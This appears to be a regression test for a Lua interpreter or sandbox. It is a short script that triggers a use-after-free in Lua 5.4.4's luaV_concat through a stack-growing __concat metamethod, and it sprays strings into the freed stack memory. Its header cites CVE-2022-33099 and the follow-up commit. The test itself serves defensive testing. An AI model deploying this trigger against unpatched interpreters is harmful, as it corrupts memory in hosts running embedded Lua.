-- hostile: crash: Lua 5.4.4 bug luaV_concat uses an invalidated pointer to the stack after a __concat metamethod (commit 603b2c64, follow-up of 42d40581 / CVE-2022-33099 that Debian 5.4.4-3 lacks)
-- expect: ok
-- The __concat metamethod below grows the Lua stack, which moves it; luaV_concat then sets
-- L->top from its stale `top` and goes on reading (and writing) the freed stack block.
local function deep(n) if n > 0 then return 1 + deep(n - 1) end return 0 end
local fill
local mt = {__concat = function(a, b)
  deep(60000)                      -- reallocates the Lua stack: the old block is freed
  fill = {}                        -- reuse freed memory, in case it was not unmapped
  for i = 1, 20000 do fill[i] = string.rep("\255", 24) .. i end
  return "x"
end}
local obj = setmetatable({}, mt)
local s = coroutine.wrap(function()
  deep(10000)                      -- a large stack block of its own in a fresh coroutine
  return "a" .. "b" .. obj .. "c"  -- more than two operands: luaV_concat loops after the call
end)()
fill = nil
assert(s == "abx", s)
